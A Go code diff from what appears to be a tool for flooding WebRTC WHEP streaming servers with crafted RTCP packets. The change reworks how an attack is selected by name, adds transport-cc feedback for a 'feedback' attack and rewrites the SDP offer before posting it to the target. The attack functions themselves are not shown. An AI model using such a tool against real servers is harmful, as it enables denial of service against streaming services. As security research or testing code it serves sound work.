@@ -17,6 +17,7 @@ import (
 	"net"
 	"os"
 	"strconv"
+	"strings"
 	"sync/atomic"
 	"time"
 
@@ -65,7 +66,7 @@ func main() {
 	if len(os.Args) > 5 {
 		whep.From = net.ParseIP(os.Args[5])
 	}
-	result, err := run(attacks[os.Args[1]], os.Args[2], os.Args[3], time.Duration(seconds*float64(time.Second)))
+	result, err := run(os.Args[1], os.Args[2], os.Args[3], time.Duration(seconds*float64(time.Second)))
 	if err != nil {
 		fmt.Fprintln(os.Stderr, err)
 		os.Exit(1)
@@ -74,9 +75,11 @@ func main() {
 	fmt.Println(string(line))
 }
 
-func run(attack func(*target) rtcp.Packet, url, token string, length time.Duration) (outcome, error) {
-	feedback := []webrtc.RTCPFeedback{
-		{Type: "ccm", Parameter: "fir"}, {Type: "nack"}, {Type: "nack", Parameter: "pli"}, {Type: "transport-cc"},
+func run(name, url, token string, length time.Duration) (outcome, error) {
+	feedback := []webrtc.RTCPFeedback{{Type: "ccm", Parameter: "fir"}, {Type: "nack"}, {Type: "nack", Parameter: "pli"}}
+	// A sender that waits for reports of its numbers sends little to those who make none.
+	if name == "feedback" {
+		feedback = append(feedback, webrtc.RTCPFeedback{Type: "transport-cc"})
 	}
 	api, err := whep.NewAPI([]string{"VP8"}, feedback, numberPackets)
 	if err != nil {
@@ -111,7 +114,8 @@ func run(attack func(*target) rtcp.Packet, url, token string, length time.Durati
 	if err != nil {
 		return outcome{}, err
 	}
-	session, _, err := whep.Post(url, token, offer)
+	// Pion ends kinds of feedback that have no parameter with a space, by which they are others.
+	session, _, err := whep.Post(url, token, strings.ReplaceAll(offer, " \r\n", "\r\n"))
 	if err != nil {
 		return outcome{}, err
 	}
@@ -126,7 +130,7 @@ func run(attack func(*target) rtcp.Packet, url, token string, length time.Durati
 	}
 	fmt.Println("ready")
 	bufio.NewReader(os.Stdin).ReadString('\n')
-	return victim.flood(attack, connection, length, ended)
+	return victim.flood(attacks[name], connection, length, ended)
 }
 
 // numberPackets makes known what a sender needs to number all its packets: the header extension, and a stream of its own for those that
